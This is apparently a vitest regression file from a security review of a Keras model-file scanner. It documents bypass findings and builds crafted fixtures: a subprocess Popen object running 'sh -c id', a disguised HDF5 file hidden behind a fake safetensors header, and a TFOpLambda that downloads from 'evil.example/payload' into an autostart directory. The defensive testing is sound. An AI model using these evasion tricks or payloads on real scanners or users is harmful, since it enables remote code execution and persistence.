/**
 * Security review, round 2: Keras (node/scan/inspect/keras.ts, archive.ts, hdf5.ts, detect.ts).
 * Each test failed before its fix; each was a finding unless marked UNCERTAIN.
 */
import { describe, expect, test } from 'vitest';
import { INSPECT_LIMITS } from '../../node/scan/inspect/constants.js';
import { inspectHdf5 } from '../../node/scan/inspect/hdf5.js';
import { bufferSource } from '../../node/scan/inspect/source.js';
import { writeZip } from '../fixtures/scan/builders.js';
import { kerasArchive, denseKerasModel } from '../fixtures/scan/corpus.js';
import { kerasH5, sequentialDense, sequentialLambda, withUserBlock } from '../fixtures/scan/hdf5-builders.js';
import { judge, seen } from './scan-review-support.js';

/** A Keras 3 Functional model whose Lambda layer is a marshalled Python lambda (`__lambda__`). */
const lambdaModel = {
  module: 'keras', class_name: 'Sequential',
  config: {
    name: 'sequential',
    layers: [
      { module: 'keras.layers', class_name: 'Lambda', registered_name: null, config: { name: 'l', function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAA', defaults: null, closure: null } } } },
    ],
  },
  registered_name: null,
};
/** CVE-2025-1550 style: an object from outside Keras, imported and called by Keras < 3.9 even in safe mode. */
const foreignObject = { module: 'subprocess', class_name: 'Popen', registered_name: 'Popen', config: { args: ['sh', '-c', 'id'] } };

describe('scan review 2: .keras config.json the walker skips', () => {
  /**
   * FINDING K1 (high: allowed, signed clean). archive.ts walks config.json only when the archive
   * also holds a Keras marker (metadata.json, model.weights.h5/.npz) or the config's top level
   * is `{class_name, config}`. Keras needs neither: keras/src/saving/saving_lib.py
   * `_load_model_from_fileobj` opens config.json, `json.loads` it and calls
   * `deserialize_keras_object(config_dict, ...)` BEFORE it looks for the weights file (the
   * "Expected a model.weights.h5" error comes after). And deserialize_keras_object
   * (serialization_lib.py) on a dict without "class_name"/"config" returns
   * `{key: deserialize_keras_object(value) ...}`, on a list `[deserialize_keras_object(x) ...]`:
   * every object nested inside is built. So `{"m": <model>}` or `[<model>]`, in a `.keras` zip
   * with no marker, is never walked.
   */
  test('K1 a wrapped config in a .keras without markers is walked', async () => {
    for (const [id, config] of [['k1-dict', { model: lambdaModel, other: foreignObject }], ['k1-list', [lambdaModel, foreignObject]]] as const) {
      const v = await judge(id, { 'model.keras': writeZip([{ name: 'config.json', data: Buffer.from(JSON.stringify(config)) }]) });
      expect(v.signedClean, seen(v)).toEqual([]);
      expect(v.denials, seen(v)).not.toEqual([]);
    }
  });

  test('K1 control: the same objects at the top of a normal .keras are denied today', async () => {
    const v = await judge('k1-control', { 'model.keras': kerasArchive(lambdaModel) });
    expect(v.denials.length, seen(v)).toBeGreaterThan(0);
  });

  /**
   * FINDING K2 (high: allowed). Python's json.loads on bytes detects UTF-16/UTF-32 WITHOUT a BOM
   * from where the NUL bytes are (json/__init__.py detect_encoding). keras.ts decodes only
   * BOM-marked UTF-16, so a UTF-16LE config does not parse: in a marker-less archive that makes
   * looksLikeKerasConfig false and the config is skipped, though it is an ordinary
   * `{class_name, config}` model to Keras.
   */
  test('K2 a UTF-16LE (no BOM) config.json is walked or refused', async () => {
    const utf16 = Buffer.from(JSON.stringify(lambdaModel), 'utf16le');
    const v = await judge('k2-utf16', { 'model.keras': writeZip([{ name: 'config.json', data: utf16 }]) });
    expect(v.signedClean, seen(v)).toEqual([]);
    expect(v.denials, seen(v)).not.toEqual([]);
  });
});

describe('scan review 2: HDF5 the scanner does not find', () => {
  /**
   * FINDING H1 (critical: signed clean). detect.ts looks for the HDF5 signature at 0, 512,
   * 1024, 2048 and 4096 only. The HDF5 library (H5FD_locate_signature) looks at 0 and every
   * power of two from 512 up to the end of the file, so a legacy Keras .h5 behind an 8 KiB
   * user block opens the same in h5py (shown below with the scanner's own HDF5 reader).
   * Make the 8 KiB a safetensors header whose one U8 tensor spans the rest of the file, and
   * the scanner reads a clean safetensors file; Keras 3 `load_model('model.h5')`
   * (legacy_h5_format.load_model_from_hdf5, safe_mode ignored: CVE-2025-9905) and tf.keras /
   * tf_keras `load_model(any name)` (`h5py.is_hdf5(filepath)` → hdf5_format) build the Lambda.
   */
  test('H1 a Keras .h5 behind an 8 KiB user block dressed as safetensors is not clean', async () => {
    const h5 = await kerasH5({ modelConfig: sequentialLambda() });
    const block = 8192;
    const file = withUserBlock(h5, block);
    // The library finds it: the scanner's HDF5 reader, handed the file directly, sees the Lambda.
    const direct = await inspectHdf5(bufferSource(file), { ...INSPECT_LIMITS });
    expect(direct.findings.map((f) => f.kind)).toContain('embedded-code');
    // Now the user block is a safetensors header: one U8 tensor from the header's end to EOF.
    const headerLen = 256;
    const dataBytes = file.length - 8 - headerLen;
    const json = JSON.stringify({ __metadata__: { format: 'pt' }, w: { dtype: 'U8', shape: [dataBytes], data_offsets: [0, dataBytes] } });
    expect(json.length).toBeLessThanOrEqual(headerLen);
    const prefix = Buffer.alloc(8 + headerLen, 0x20);
    prefix.writeBigUInt64LE(BigInt(headerLen), 0);
    prefix.write(json, 8, 'utf8');
    const disguised = Buffer.concat([prefix, file.subarray(8 + headerLen)]);
    expect(disguised.subarray(block, block + 8).toString('latin1')).toBe('\x89HDF\r\n\x1a\n');
    const again = await inspectHdf5(bufferSource(disguised), { ...INSPECT_LIMITS });
    expect(again.findings.map((f) => f.kind)).toContain('embedded-code');
    const v = await judge('h1-userblock', { 'model.h5': disguised });
    expect(v.signedClean, seen(v)).toEqual([]);
    expect(v.denials, seen(v)).not.toEqual([]);
  });

  /**
   * FINDING H1b (high: allowed). The same 8 KiB user block of zeros: the file is `unknown`, and
   * under a name outside CODE_NAME (tf_keras routes any non-.keras path to
   * legacy_sm_saving_lib.load_model, which opens it as HDF5 when h5py.is_hdf5 says so) the gate
   * passes it.
   */
  test('H1b the same file of no recognised format, named model.weights, is denied', async () => {
    const h5 = await kerasH5({ modelConfig: sequentialLambda() });
    const v = await judge('h1b-userblock', { 'model.weights': Buffer.concat([Buffer.alloc(8192), h5]) });
    expect(v.denials, seen(v)).not.toEqual([]);
  });
});

describe('scan review 2: Keras callables named other ways (UNCERTAIN)', () => {
  /**
   * UNCERTAIN K3 (high if it holds). tf_keras/layers/core/tf_op_layer.py TFOpLambda.from_config:
   * `function = get_symbol_from_name(config["function"])` — any symbol of the public TF API
   * (`keras.utils.get_file`, `io.gfile.rmtree`, `io.write_file`…) — and the layer calls
   * `self.function(*args, **kwargs)` with the inbound node's constant kwargs when the
   * Functional model is rebuilt on load. keras.ts denies `get_file` when a config names it as
   * module/class, but a TFOpLambda naming it is not looked at. Not run against tf_keras here:
   * whether the call happens eagerly at load depends on the functional rebuild.
   */
  test('K3 a TFOpLambda whose function is keras.utils.get_file is reported', async () => {
    const config = { ...sequentialDense(), class_name: 'Functional' } as Record<string, unknown>;
    config['config'] = {
      name: 'model',
      layers: [
        { class_name: 'InputLayer', name: 'input_1', config: { batch_input_shape: [null, 4], dtype: 'float32', name: 'input_1' }, inbound_nodes: [] },
        { class_name: 'TFOpLambda', name: 'tf.keras.utils.get_file', config: { name: 'tf.keras.utils.get_file', trainable: true, dtype: 'float32', function: 'keras.utils.get_file' },
          inbound_nodes: [['input_1', 0, 0, { origin: 'https://evil.example/payload', cache_dir: '/home/user/.config/autostart' }]] },
      ],
      input_layers: [['input_1', 0, 0]],
      output_layers: [['tf.keras.utils.get_file', 0, 0]],
    };
    const v = await judge('k3-tfoplambda', { 'model.h5': await kerasH5({ modelConfig: config }) });
    expect(v.denials, seen(v)).not.toEqual([]);
  });
});
void denseKerasModel;
